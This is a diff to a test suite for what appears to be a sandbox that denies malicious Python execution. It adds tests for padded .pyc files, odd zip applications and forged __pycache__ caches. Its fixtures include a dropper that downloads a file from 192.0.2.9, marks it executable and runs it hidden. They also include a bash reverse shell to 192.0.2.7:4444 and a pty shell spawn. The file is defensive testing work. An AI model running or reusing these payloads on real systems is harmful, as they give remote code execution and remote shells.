@@ -153,6 +153,12 @@ for n in range(3):
     os.dup2(s.fileno(), n)
 pty.spawn("/bin/sh")
 """
+DROPPER = f"""open('{MARK}', 'w').write('ran')
+import os, urllib.request
+urllib.request.urlretrieve('http://192.0.2.9/x', '/tmp/.x')
+os.chmod('/tmp/.x', 0o755)
+os.system('nohup /tmp/.x >/dev/null 2>&1 &')
+"""
 REVERSE = f"touch {MARK}; timeout 1 bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"
 
 
@@ -205,7 +211,7 @@ def odd_archives():
         "in front of it 9 MiB": b"#" * (9 << 20) + plain,
         "many members": archive(*[(f"m{n}", "") for n in range(5000)], ("__main__.py", SHELL)),
         "compiled beside source": archive(("__main__.py", "1\n"), ("__main__.pyc",
-                                                                   compiled(SHELL, 0, 2))),
+                                                                   compiled(DROPPER, 0, 2))),
     }
 
 
@@ -227,8 +233,31 @@ def row10_odd_zip_applications(t):
 def row10_compiled_python_behind_padding(t):
     box = judged_box(t)
     for mib in (1, 9):
-        box.put("/tmp/m.pyc", compiled(f"x = '{'a' * (mib << 20)}'\n" + SHELL))
+        box.put("/tmp/m.pyc", compiled(f"x = '{'a' * (mib << 20)}'\n" + DROPPER))
         is_denied(t, box, f"{mib} MiB of padding", [PYTHON3, "/tmp/m.pyc"])
+
+
+def row10_a_cache_that_is_not_what_its_source_says(t):
+    """Python asks for the time and the size of the source only."""
+    box, source, evil = t.box(), "print(1)\n", []
+    tag = sys.implementation.cache_tag
+    for name in ("mod", "sitecustomize", "pkg/__init__"):
+        folder, base = os.path.split("/tmp/m/" + name)
+        box.put(f"{folder}/{base}.py", source)
+        st = os.stat(box.path(f"{folder}/{base}.py"))
+        cache = compiled(f"open('{MARK}', 'w') # evil\n", st.st_mtime, len(source))
+        box.put(f"{folder}/__pycache__/{base}.{tag}.pyc", cache)
+        evil.append(lwtest.sha256(cache))
+    box.put("/tmp/m/pkg/__main__.py", source)
+    t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS], malicious=evil)
+    for argv in (["-Sm", "mod"], ["-c", "1"], ["-Sm", "pkg"]):
+        is_denied(t, box, f"{argv}", [PYTHON3, *argv], env={"PYTHONPATH": "/tmp/m"})
+
+
+def test_compiled_modules_of_the_library_run(t):
+    box = judged_box(t)
+    for name in ("http.server", "json.tool", "zipfile", "pydoc"):
+        t.ran(box.run([PYTHON3, "-m", name, "-h"]))
 
 
 def row37_code_between_padding(t):
